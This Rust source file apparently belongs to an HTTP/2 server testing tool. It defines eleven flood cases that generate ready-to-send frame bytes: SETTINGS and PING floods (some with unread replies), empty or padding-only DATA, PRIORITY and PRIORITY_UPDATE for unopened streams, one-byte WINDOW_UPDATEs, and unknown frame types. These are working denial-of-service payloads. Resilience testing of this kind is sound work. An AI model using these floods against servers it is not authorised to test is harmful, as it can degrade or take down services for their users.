//! Frames that carry nothing, or make the other end answer.

use super::Attack;
use crate::cases::Target;
use crate::{Wire, data, ping, priority, priority_update, settings, unknown, window_update};

/// How many frames a piece has: one alone would cost more to hand over than to say.
const MANY: usize = 64;

/// An idle stream that is far ahead of those that are opened here.
const AHEAD: u32 = 1 << 20;

/// SETTINGS_HEADER_TABLE_SIZE (RFC 9113 §6.5.2).
const TABLE_SIZE: u16 = 1;

pub(super) const ATTACKS: [Attack; 11] = [
    Attack::new(
        "settings-flood",
        "empty SETTINGS, each of which asks for an acknowledgment",
        |_, _| vec![settings(); MANY].octets(),
    ),
    Attack::new(
        "settings-flood-unread",
        "empty SETTINGS, whose acknowledgments nobody reads",
        |_, _| vec![settings(); MANY].octets(),
    )
    .unread(),
    Attack::new(
        "settings-table-churn",
        "SETTINGS that take the dynamic table away and give it back",
        |_, _| {
            let both = (
                settings().set(TABLE_SIZE, 0),
                settings().set(TABLE_SIZE, 4_096),
            );
            vec![both.octets(); MANY / 2].octets()
        },
    ),
    Attack::new(
        "ping-flood",
        "PING, each of which asks for an answer",
        |_, _| vec![ping(*b"answerme"); MANY].octets(),
    ),
    Attack::new(
        "ping-flood-unread",
        "PING, whose answers nobody reads",
        |_, _| vec![ping(*b"answerme"); MANY].octets(),
    )
    .unread(),
    Attack::new("data-empty", "an upload of empty DATA", |target, _| {
        vec![data(target.stream, ""); MANY].octets()
    })
    .beginning(upload),
    Attack::new(
        "data-padding",
        "an upload of DATA that has nothing but padding",
        |target, _| vec![data(target.stream, "").padded(255); MANY / 8].octets(),
    )
    .beginning(upload),
    Attack::new(
        "priority-flood",
        "PRIORITY of streams that nobody opens",
        |_, count| {
            let stream = |one: usize| AHEAD + 2 * (one_more(count, one) % AHEAD) + 1;
            let frames = (0..MANY).map(|one| priority(stream(one), 0, 15));
            frames.collect::<Vec<_>>().octets()
        },
    ),
    Attack::new(
        "priority-update-flood",
        "PRIORITY_UPDATE of streams that nobody opens",
        |_, count| {
            let stream = |one: usize| AHEAD + 2 * (one_more(count, one) % AHEAD) + 1;
            let frames = (0..MANY).map(|one| priority_update(stream(one), "u=0"));
            frames.collect::<Vec<_>>().octets()
        },
    ),
    Attack::new(
        "window-update-flood",
        "WINDOW_UPDATE of 1, on the connection",
        |_, _| vec![window_update(0, 1); MANY].octets(),
    ),
    Attack::new(
        "unknown-frames",
        "frames of a type that nobody knows",
        |_, _| vec![unknown(0xf0, 0, 0, [0; 8]); MANY].octets(),
    ),
];

/// A request whose content is to come.
fn upload(target: &Target) -> Vec<u8> {
    target.post(target.stream).octets()
}

/// The number of a frame, over all pieces.
fn one_more(piece: u32, one: usize) -> u32 {
    let many = u32::try_from(MANY).unwrap_or(u32::MAX);
    piece
        .wrapping_mul(many)
        .wrapping_add(u32::try_from(one).unwrap_or(u32::MAX))
}
